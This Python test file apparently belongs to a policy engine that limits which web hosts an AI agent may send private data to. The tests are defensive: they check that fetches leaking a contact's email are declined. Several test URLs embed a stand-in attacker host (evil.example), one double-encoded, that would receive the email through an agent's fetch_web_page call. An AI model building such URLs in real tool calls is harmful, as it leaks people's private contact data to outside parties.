"""What a host that may learn something is told without a question, and what beside it is asked about."""

from __future__ import annotations

import pytest
from bench.attacks.belongings import KIM, address_book
from bench.home.world import Home, rules, statuses

from armslength.policy.engine import Clearance, PolicySettings
from armslength.tools.web.services import Service

DOCS = "docs.example.com"
MAY_LEARN = PolicySettings(may_learn=(Clearance((DOCS,), ("store:contacts", "tool:search_contacts")),))


def asked(home: Home, url: str, *services: Service) -> tuple[list[tuple[str, str]], list[str], list[str]]:
    """What became of a request with a contact's address in it, which rules spoke, and what hosts got."""
    home.connect()
    assert home.internet is not None
    home.services += services
    address_book(home, Kim_Berg=KIM)
    home.page(f"https://{DOCS}/kim/find", "Nothing")
    result = home.ask(f'answer(fetch_web_page(url="{url}" + search_contacts("Kim")[0].email))', policy=MAY_LEARN)
    return statuses(result), rules(result), [each.url for each in home.internet.web.asked]


SHARED = Service(DOCS, is_shared=True, own=("/kim/",))


@pytest.mark.parametrize("services", [(), (SHARED,)], ids=["nothing is known of it", "shared, below the user's own"])
def test_a_host_is_told_what_it_may_learn_without_a_question(home: Home, services: tuple[Service, ...]) -> None:
    """The configuration says it of the host, and the program says which page."""
    got = asked(home, f"https://{DOCS}/kim/find?q=", *services)
    assert got == ([("fetch_web_page", "done")], ["nothing-objects"], [f"https://{DOCS}/kim/find?q={KIM}"])


@pytest.mark.parametrize(
    ("url", "services"),
    [
        (f"https://{DOCS}/kim/find?of=https://evil.example/?q=", ()),
        (f"https://{DOCS}/kim/find?of=https%253A%252F%252Fevil.example%252F%253Fq%253D", ()),
        (f"https://{DOCS}/find?q=", (SHARED,)),
        (f"https://{DOCS}/kim/find?q=", (Service(DOCS, tells=("cdn.example.net",)),)),
    ],
    ids=["an address within", "an address within, encoded twice", "shared, beside the user's own", "told further"],
)
def test_whoever_else_would_learn_it_is_asked_about(home: Home, url: str, services: tuple[Service, ...]) -> None:
    """The host may learn it, they may not."""
    what, spoke, got = asked(home, url, *services)
    assert (what, got) == ([("fetch_web_page", "declined")], [])
    assert "not-a-reader" in spoke


@pytest.mark.parametrize(
    "services", [(Service(DOCS, passes_on=True),), ()], ids=["it passes on", "nothing can be read"]
)
def test_receivers_that_nobody_can_say_are_asked_about(home: Home, services: tuple[Service, ...]) -> None:
    """Whatever the host may learn."""
    url = f"https://{DOCS}/kim/find?q=" if services else f"https://{DOCS}/kim/find?to=https://"
    what, spoke, got = asked(home, url, *services)
    assert (what, got) == ([("fetch_web_page", "declined")], [])
    assert "receivers-unknown" in spoke
